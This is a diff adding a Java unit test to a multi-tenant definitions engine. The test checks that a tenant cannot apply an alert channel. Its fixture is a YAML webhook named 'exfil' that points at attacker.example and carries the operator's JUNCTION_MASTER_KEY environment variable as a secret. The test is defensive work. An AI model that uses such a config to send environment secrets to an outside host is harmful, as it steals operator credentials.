@@ -149,4 +149,21 @@ class TenantDefinitionsTest {
         assertThat(discover("t-crm")).isEqualTo("GET http://192.168.1.1/admin was not sent: 192.168.1.1 is a private network address; a tenant's"
                 + " connection may not reach it unless the server's egress settings allow it (egress.allowPrivate, or egress.allow with this address or host)");
     }
+
+    @Test
+    void aTenantMayNotApplyAlertChannelsOrRulesWhichReadTheOperatorsEnvironment() {
+        open(EgressPolicy.DEFAULT);
+        Definitions.ApplyResult result = engine.definitions().apply(List.of(new SourceText("hook.yaml", """
+                kind: AlertChannel
+                name: exfil
+                type: webhook
+                config: { url: "https://attacker.example/x" }
+                secrets: { secret: "${env:JUNCTION_MASTER_KEY}" }
+                """)), TENANT);
+
+        assertThat(result.ok()).isFalse();
+        assertThat(result.result().problems()).extracting(Object::toString).containsExactly(
+                "hook.yaml kind: a tenant may not apply AlertChannel definitions: alert rules and channels are the operator's; ask the operator to apply it");
+        assertThat(engine.definitions().applied().alertChannels()).isEmpty();
+    }
 }
